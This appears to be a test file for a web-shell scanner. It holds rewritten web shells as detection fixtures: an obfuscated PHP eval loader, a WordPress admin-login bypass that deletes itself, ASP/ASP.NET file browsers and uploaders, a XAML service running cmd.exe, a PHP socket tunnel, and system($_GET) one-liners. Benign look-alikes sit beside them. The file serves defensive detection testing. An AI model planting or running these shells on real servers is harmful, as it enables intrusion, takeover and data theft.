import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { createScanner } from './scanner.js';

// Session 31: the techniques of held-out set X's first-scan misses, written again by us (the set's files stay
// outside the project): a loader that evals what its own decoder makes of a packed blob (a table of swapped
// characters, then base64_decode through a name joined from letters); a standalone script that loads
// WordPress and signs its visitor in as the first account; a classic ASP file browser whose folder defaults
// to c:\ in a branch; an ASP.NET drive browser; a classic ASP uploader writing where a form field says, C:\ by
// default; a XAML workflow service starting a process. Each with look-alikes that must not be malicious.
const scanner = createScanner({});
const scan = (src: string, path: string) => scanner.scanBuffer(Buffer.from(src, 'latin1'), path);

/** A packed blob of our own: base64 of harmless text, its characters swapped by a table, cut in pieces of 76. */
function packed(): { pieces: string; table: string } {
  const text = Buffer.from('echo "hello from a test payload";\n'.repeat(60)).toString('base64');
  const swap: Record<string, string> = { A: 'Q', Q: 'A', e: 'z', z: 'e', '0': '7', '7': '0' };
  const out = [...text].map((c) => swap[c] ?? c).join('');
  const pieces = out.match(/.{1,76}/g)!.map((p) => `"${p}"`).join('.\n');
  const table = Object.entries(swap).map(([k, v]) => `"${v}"=>"${k}"`).join(', ');
  return { pieces, table };
}
const { pieces, table } = packed();

// [what, path, the file]
const SHELLS: [string, string, string][] = [
  ['a packed blob unpacked by the file\'s own decoder and evaluated', '/www/hello.php', `<?php
function unpack_it($s, $t) { $o = ''; for ($i = 0; $i < strlen($s); $i++) { $o .= isset($t[$s[$i]]) ? $t[$s[$i]] : $s[$i]; } $d = "b" . "a" . "s" . "e" . "6" . "4" . "_" . "d" . "e" . "c" . "o" . "d" . "e"; return $d($o); }
$tbl = array(${table});
$blob = ${pieces};
eval/*x*/(unpack_it($blob, $tbl));
`],
  ['the same with the blob in one literal, the eval silenced', '/www/hello2.php', `<?php
function u($s, $t) { return base64_decode(strtr($s, $t)); }
$b = ${pieces.replace(/"\.\n"/g, '')};
@eval(u($b, array(${table})));
`],
  ['a standalone script signing its visitor in as the first WordPress account, then deleting itself', '/www/wp-content/uploads/x.php', `<?php
@unlink(__FILE__);
require('../../wp-blog-header.php');
$u = get_userdata(1);
wp_clear_auth_cookie();
wp_set_current_user($u->ID);
wp_set_auth_cookie($u->ID);
wp_safe_redirect(admin_url());
exit;
`],
  ['a classic ASP file browser, its folder c:\\ when the request names none', '/www/list.asp', `<html><body>
<%
p = Request("p")
t = Request("t")
If p = "" Then
  p = "c:\\"
  t = "1"
End If
If t = "1" Then ShowFolder(p)
If t = "2" Then
  Set fso = Server.CreateObject("Scripting.FileSystemObject")
  Set ts = fso.OpenTextFile(p, 1)
  Response.Write("<pre>" & Server.HTMLEncode(ts.ReadAll) & "</pre>")
End If
Sub ShowFolder(dir)
  Set fso = CreateObject("Scripting.FileSystemObject")
  Set f = fso.GetFolder(dir)
  For Each d In f.SubFolders
    Response.Write("<a href='?t=1&p=" & Server.URLEncode(d.Path) & "'>" & d.Name & "</a><br>")
  Next
  For Each x In f.Files
    Response.Write("<a href='?t=2&p=" & Server.URLEncode(x.Path) & "'>" & x.Name & "</a><br>")
  Next
End Sub
%>
</body></html>
`],
  ['an ASP.NET drive browser sending any file', '/www/browse.aspx', `<%@ Page Language="C#" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
protected void Page_Load(object s, EventArgs e) {
  if (Request["get"] != null) { string f = Request["get"]; Response.ContentType = "application/octet-stream"; Response.WriteFile(f); Response.End(); }
  string dir = Request["dir"];
  if (dir == null) { foreach (string d in Environment.GetLogicalDrives()) Response.Write("<a href='?dir=" + d + "'>" + d + "</a> "); return; }
  foreach (DirectoryInfo d in new DirectoryInfo(dir).GetDirectories()) Response.Write("<a href='?dir=" + d.FullName + "'>" + d.Name + "</a><br>");
  foreach (FileInfo f in new DirectoryInfo(dir).GetFiles()) Response.Write("<a href='?get=" + f.FullName + "'>" + f.Name + "</a><br>");
}
</script>
`],
  ['a classic ASP uploader writing where a form field says, C:\\ by default', '/www/up.asp', `<%
If Request.QueryString("go") = "1" Then
  raw = Request.BinaryRead(Request.TotalBytes)
  ' (a parser of the multipart body, as such pages carry, fills form("dest") and form("name") and body)
  Set form = ParseParts(raw)
  Set fso = Server.CreateObject("Scripting.FileSystemObject")
  Set out = fso.CreateTextFile(form("dest") & form("name"))
  For i = 1 To LenB(form("body"))
    out.Write Chr(AscB(MidB(form("body"), i, 1)))
  Next
  out.Close
End If
%>
<form action="?go=1" method="post" enctype="multipart/form-data">
<input type="file" name="f"><br>
Folder: <input type="text" name="dest" value="C:\\"><input type="submit">
</form>
`],
  ['a XAML workflow service starting a process', '/www/svc.xamlx', `<WorkflowService ConfigurationName="S" Name="S" xmlns="http://schemas.microsoft.com/netfx/2009/xaml/servicemodel" xmlns:p="http://schemas.microsoft.com/netfx/2009/xaml/activities" xmlns:x="http://schemas.microsoft.com/winfx/2006/xaml">
 <p:Sequence>
  <Receive x:Name="r" CanCreateInstance="True" OperationName="Go" />
  <SendReply Request="{x:Reference r}">
   <SendMessageContent>
    <p:InArgument x:TypeArguments="x:String">[System.Diagnostics.Process.Start("cmd.exe", "/c whoami").Id.ToString()]</p:InArgument>
   </SendMessageContent>
  </SendReply>
 </p:Sequence>
</WorkflowService>
`],
];

const BENIGN: [string, string, string][] = [
  ['a template cache that evals compiled templates it wrote, with a long base64 logo', '/www/cache.php', `<?php
function compile_template($src, $vars) { return '?>' . preg_replace('/\\{\\{\\s*(\\w+)\\s*\\}\\}/', '<?= htmlspecialchars($$1) ?>', $src); }
$logo = "${Buffer.alloc(1200, 7).toString('base64')}";
$tpl = file_get_contents(__DIR__ . '/views/home.tpl');
extract(['title' => 'Home']);
eval(compile_template($tpl, []));
`],
  ['a WordPress SSO bridge that checks a signed token before it signs anyone in', '/www/sso.php', `<?php
require __DIR__ . '/wp-load.php';
$token = $_GET['t'] ?? '';
$parts = explode('.', $token);
if (count($parts) !== 2 || !hash_equals(hash_hmac('sha256', $parts[0], SSO_SECRET), $parts[1])) { wp_die('bad token'); }
$user = get_user_by('email', base64_decode($parts[0]));
wp_set_auth_cookie($user->ID);
wp_safe_redirect(admin_url());
`],
  ['a WordPress maintenance script that reads the first account and signs no one in', '/www/report.php', `<?php
require('./wp-blog-header.php');
$u = get_userdata(1);
echo 'Site owner: ' . esc_html($u->display_name);
`],
  ['a classic ASP log viewer over a fixed folder', '/www/logs.asp', `<%
Set fso = Server.CreateObject("Scripting.FileSystemObject")
Set f = fso.GetFolder(Server.MapPath("/logs"))
For Each x In f.Files
  Response.Write("<a href='?n=" & Server.URLEncode(x.Name) & "'>" & x.Name & "</a><br>")
Next
n = Request("n")
If n <> "" And InStr(n, "..") = 0 And InStr(n, "\\") = 0 Then
  Set ts = fso.OpenTextFile(Server.MapPath("/logs/" & n), 1)
  Response.Write("<pre>" & Server.HTMLEncode(ts.ReadAll) & "</pre>")
End If
%>
`],
  ['an ASP.NET disk report listing drives, and sending a fixed report file', '/www/disks.aspx', `<%@ Page Language="C#" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
protected void Page_Load(object s, EventArgs e) {
  foreach (DriveInfo d in DriveInfo.GetDrives()) if (d.IsReady) Response.Write(d.Name + " " + d.AvailableFreeSpace + "<br>");
  if (Request["csv"] == "1") Response.WriteFile(Server.MapPath("~/App_Data/disks.csv"));
}
</script>
`],
  ['a pure-ASP upload class saving into the site\'s own folder', '/www/upload.asp', `<%
raw = Request.BinaryRead(Request.TotalBytes)
Set form = ParseParts(raw)
Set fso = Server.CreateObject("Scripting.FileSystemObject")
Set out = fso.CreateTextFile(Server.MapPath("/uploads/") & "\\" & Year(Now) & Month(Now) & Day(Now) & ".dat")
out.Write form("body")
out.Close
%>
<form method="post" enctype="multipart/form-data"><input type="file" name="f"><input type="text" name="title" value=""><input type="submit"></form>
`],
  ['a XAML workflow service that only replies', '/www/order.xamlx', `<WorkflowService ConfigurationName="Order" Name="Order" xmlns="http://schemas.microsoft.com/netfx/2009/xaml/servicemodel" xmlns:p="http://schemas.microsoft.com/netfx/2009/xaml/activities" xmlns:x="http://schemas.microsoft.com/winfx/2006/xaml">
 <p:Sequence>
  <Receive x:Name="r" CanCreateInstance="True" OperationName="Submit" />
  <SendReply Request="{x:Reference r}"><SendMessageContent><p:InArgument x:TypeArguments="x:String">["accepted"]</p:InArgument></SendMessageContent></SendReply>
 </p:Sequence>
</WorkflowService>
`],
];

// Held-out set Y (session 31): a server page kept whole as base64 in a file of its own is judged as the page.
describe('scan: session 31, a server page in base64', () => {
  const browser = SHELLS.find(([, path]) => path === '/www/browse.aspx')![2];
  const wrap = (s: string) => Buffer.from(s, 'latin1').toString('base64').replace(/.{76}/g, '$&\r\n');
  it('malicious: an ASP.NET drive browser in base64, in a .asp file', () => {
    const r = scan(wrap(browser), '/www/shell.asp');
    assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
    assert.ok(r.findings.every((f) => f.layers?.[0] === 'base64'), JSON.stringify(r.findings));
  });
  it('malicious: a PHP loader in base64, in a .txt file (its kind read from the page)', () => {
    const php = SHELLS.find(([, path]) => path === '/www/hello2.php')![2];
    const r = scan(wrap(php), '/www/notes.txt');
    assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
  });
  it('not malicious: a harmless page in base64, and base64 of text that is no page', () => {
    assert.equal(scan(wrap(BENIGN.find(([, path]) => path === '/www/disks.aspx')![2]), '/www/d.asp').verdict, 'clean');
    assert.equal(scan(wrap('hello world, not a page at all. '.repeat(20)), '/www/x.asp').verdict, 'clean');
  });
  it('malicious: in certutil\'s armour, URL-safe, after HTML or a GIF\'s header, in pieces each padded, encoded twice, a one-liner', () => {
    const b64 = (s: string) => Buffer.from(s, 'latin1').toString('base64');
    const cases: [string, string][] = [
      [`-----BEGIN CERTIFICATE-----\r\n${wrap(browser)}\r\n-----END CERTIFICATE-----\r\n`, '/www/a.txt'],
      [b64(browser).replace(/\+/g, '-').replace(/\//g, '_'), '/www/b.asp'],
      [wrap(`<html><body>hello</body></html>\n${browser}`), '/www/c.asp'],
      [`${b64(browser.slice(0, 301))}${b64(browser.slice(301))}`, '/www/d.asp'],
      [wrap(wrap(browser)), '/www/e.asp'],
      [b64('GIF89a;\n<?php system($_REQUEST["c"]); ?>'), '/www/f.txt'],
      [b64('<?php system($_GET["c"]); ?>'), '/www/g.txt'],
    ];
    for (const [src, p] of cases) assert.equal(scan(src, p).verdict, 'malicious', p);
  });
  it('a file of base64 with other bytes in it, or too short, is not read as a page', () => {
    const bad = `${wrap(browser)}!`;
    assert.notEqual(scan(bad, '/www/shell.asp').verdict, 'malicious');
    assert.notEqual(scan(wrap('<%@ Page %>'), '/www/short.asp').verdict, 'malicious');
  });
});

describe('scan: session 31, a packed blob evaluated through the file\'s own decoder: what it needs', () => {
  const loader = (blob: string, def = true) => `<?php
${def ? 'function u($s, $t) { return base64_decode(strtr($s, $t)); }' : ''}
$b = ${blob};
eval(u($b, array(${table})));
`;
  it('malicious with a blob of 1,000 characters and more, whole or in pieces, and the decoder defined in the file', () => {
    assert.equal(scan(loader(`"${'QUJkZ0'.repeat(167)}"`), '/www/a.php').findings.some((f) => f.rule === 'mamori:own-decoder-eval'), true);
    assert.equal(scan(loader(pieces), '/www/b.php').findings.some((f) => f.rule === 'mamori:own-decoder-eval'), true);
  });
  it('not this finding with a short blob, a blob of other characters, or a function the file does not define', () => {
    assert.equal(scan(loader(`"${'QUJkZ0'.repeat(133)}"`), '/www/c.php').findings.some((f) => f.rule === 'mamori:own-decoder-eval'), false);
    assert.equal(scan(loader(`"${'Q J!'.repeat(300)}"`), '/www/d.php').findings.some((f) => f.rule === 'mamori:own-decoder-eval'), false);
    assert.equal(scan(loader(pieces, false), '/www/e.php').findings.some((f) => f.rule === 'mamori:own-decoder-eval'), false);
  });
});

describe('scan: session 31, held-out set X\'s techniques written again', () => {
  for (const [name, path, src] of SHELLS) {
    it(`malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
    });
  }
  for (const [name, path, src] of BENIGN) {
    it(`not malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.notEqual(r.verdict, 'malicious', JSON.stringify(r.findings));
    });
  }
  it('the packed blob is long enough to be one (over 1,000 characters, more than 8 pieces)', () => {
    assert.ok(pieces.replace(/"\.\n"/g, '').length > 1000);
    assert.ok(pieces.split('.\n').length > 8);
    assert.equal(createHash('sha256').update(pieces).digest('hex').length, 64);
  });
  it('ran every case', () => {
    assert.equal(SHELLS.length, 7);
    assert.equal(BENIGN.length, 7);
  });
});

// Held-out set Z (session 31): a PHP HTTP tunnel of reGeorg's kind over fsockopen, its socket's buffers kept in
// the session; a shell that calls the superglobal by mistake, system($_GET("cmd")).
describe('scan: session 31, held-out set Z\'s techniques written again', () => {
  it('malicious: a PHP tunnel (CONNECT, READ, FORWARD, DISCONNECT) over fsockopen with the session as its buffer', () => {
    const src = `<?php
session_start();
$h = function_exists('getallheaders') ? getallheaders() : [];
switch ($h['X-Op'] ?? '') {
  case "CONNECT":
    $s = @fsockopen($h['X-Host'], (int) $h['X-Port'], $en, $es, 5);
    $_SESSION['buf'] = '';
    $_SESSION['on'] = $s !== false;
    break;
  case "READ":
    echo $_SESSION['buf']; $_SESSION['buf'] = '';
    break;
  case "FORWARD":
    $_SESSION['out'] = ($_SESSION['out'] ?? '') . file_get_contents('php://input');
    break;
  case "DISCONNECT":
    $_SESSION['on'] = false;
    break;
}
`;
    const r = scan(src, '/www/t.php');
    assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
  });
  it('malicious: the request\'s array called by mistake, and read with braces', () => {
    assert.equal(scan('<?php\n    system($_GET("cmd"));\n?>', '/www/cmd.php').verdict, 'malicious');
    assert.equal(scan("<?php passthru($_POST{'c'});", '/www/c.php').verdict, 'malicious');
  });
  it('not malicious: a mail health check reading a server\'s greeting, its state in the session', () => {
    const src = `<?php
session_start();
$s = @fsockopen('127.0.0.1', 25, $en, $es, 3);
$_SESSION['smtp'] = $s ? trim(fgets($s, 512)) : "DOWN";
$state = $_SESSION['smtp'] === "DOWN" ? "READ FAILED" : "READY";
echo htmlspecialchars($state);
`;
    assert.notEqual(scan(src, '/www/health.php').verdict, 'malicious');
  });
});

// Held-out set AA (session 31): ASP.NET file managers over the server's own paths.
describe('scan: session 31, held-out set AA\'s techniques written again', () => {
  it('malicious: a WebForms file manager over the drives, its path a TextBox\'s', () => {
    const src = `<%@ Page Language="C#" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
protected void Page_Load(object s, EventArgs e) {
  if (!IsPostBack) { Path1.Text = @"C:\\"; Show(Path1.Text); }
  foreach (var d in DriveInfo.GetDrives()) Drives.Items.Add(d.Name);
}
void Show(string p) { Grid.DataSource = new DirectoryInfo(p).GetFileSystemInfos(); Grid.DataBind(); }
protected void Grid_Command(object s, GridViewCommandEventArgs e) {
  string p = e.CommandArgument.ToString();
  if (e.CommandName == "Get") { Response.ContentType = "application/octet-stream"; Response.WriteFile(p); Response.End(); }
  if (e.CommandName == "Del") { if (File.Exists(p)) File.Delete(p); else Directory.Delete(p, true); Show(Path1.Text); }
}
protected void Up_Click(object s, EventArgs e) { Up.SaveAs(Path.Combine(Path1.Text, Path.GetFileName(Up.FileName))); Show(Path1.Text); }
</script>
<form runat="server"><asp:TextBox ID="Path1" runat="server" /><asp:DropDownList ID="Drives" runat="server" />
<asp:GridView ID="Grid" runat="server" OnRowCommand="Grid_Command" /><asp:FileUpload ID="Up" runat="server" /></form>`;
    const r = scan(src, '/www/files.aspx');
    assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
  });
  it('malicious: a manager of the folder and file the query names, editing and deleting them', () => {
    const src = `<%@ Page Language="C#" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
protected void Page_Load(object s, EventArgs e) {
  string dir = Request.QueryString["dir"] ?? Server.MapPath("~/");
  string file = Request.QueryString["file"];
  if (Request.QueryString["do"] == "save" && file != null) File.WriteAllText(file, Request.Form["body"]);
  if (Request.QueryString["do"] == "del" && file != null) File.Delete(file);
  if (Request.Files.Count > 0) Request.Files[0].SaveAs(Path.Combine(dir, Request.Files[0].FileName));
  foreach (string f in Directory.GetFiles(dir)) Response.Write("<a href='?file=" + Server.UrlEncode(f) + "'>" + Path.GetFileName(f) + "</a><br>");
}
</script>`;
    const r = scan(src, '/www/fm.aspx');
    assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
  });
  it('not malicious: a site\'s media manager, its folders mapped under the site', () => {
    const src = `<%@ Page Language="C#" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
protected void Page_Load(object s, EventArgs e) {
  if (!User.IsInRole("editor")) { Response.StatusCode = 403; return; }
  string folder = Server.MapPath("~/media/" + Path.GetFileName(Request.QueryString["album"] ?? "default"));
  if (Request.QueryString["del"] != null) File.Delete(Path.Combine(folder, Path.GetFileName(Request.QueryString["del"])));
  if (Request.Files.Count > 0) Request.Files[0].SaveAs(Path.Combine(folder, Guid.NewGuid() + ".jpg"));
  foreach (string f in Directory.GetFiles(folder, "*.jpg")) Response.Write("<img src='/media/" + Path.GetFileName(f) + "'>");
}
</script>`;
    assert.notEqual(scan(src, '/www/media.aspx').verdict, 'malicious');
  });
});
